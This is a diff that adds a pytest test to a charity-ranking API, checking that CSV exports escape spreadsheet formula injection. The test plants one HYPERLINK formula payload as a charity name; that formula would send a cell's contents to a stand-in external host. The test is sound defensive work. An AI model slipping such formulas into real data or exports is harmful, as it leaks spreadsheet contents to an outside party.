@@ -7,9 +7,12 @@ import io
 
 import pytest
 from fastapi.testclient import TestClient
+from sqlalchemy import select
 
+from risk_model.lists.export import FORMULA_STARTS
 from risk_model.lists.membership import LIST_TITLES, REVIEW_LISTS, WHY_ON_LIST
 from risk_model.lists.records import records_from_tables
+from serve.db import ScoredCharity
 from serve.deps import get_principal
 from serve.main import create_app
 from tests.support import serve as support
@@ -229,6 +232,29 @@ def test_rankings_export_every_matching_row_of_the_list_as_csv(client):
     rows = list(csv.DictReader(io.StringIO(triage.text)))
     assert {r["review_list"] for r in rows} == {"triage"}
     assert [int(r["rank"]) for r in rows] == list(range(1, len(rows) + 1))
+
+
+def test_a_name_a_spreadsheet_would_run_is_exported_as_text(client):
+    """CSV formula injection: a charity named like a formula is exported with a leading apostrophe."""
+    top = top_of_list(client)[0]
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Click for details")'
+    sessions = client.app.state.db.sessions
+    with sessions() as session:
+        row = session.scalars(select(ScoredCharity).where(ScoredCharity.charity_number == top["charity_number"])
+                              ).first()
+        original, row.charity_name = row.charity_name, formula
+        session.commit()
+    try:
+        exported = list(csv.DictReader(io.StringIO(client.get("/rankings", params={"format": "csv"}).text)))
+    finally:
+        with sessions() as session:
+            session.scalars(select(ScoredCharity).where(ScoredCharity.charity_number == top["charity_number"])
+                            ).first().charity_name = original
+            session.commit()
+    names = {r["charity_number"]: r["charity_name"] for r in exported}
+    assert names[top["charity_number"]] == "'" + formula
+    assert not any(name.startswith(FORMULA_STARTS) for name in names.values())
+    assert all(float(r["score"]) >= 0 for r in exported)  # numbers stay numbers
 
 
 def test_charity_page_has_score_reasons_changes_and_returns(client):
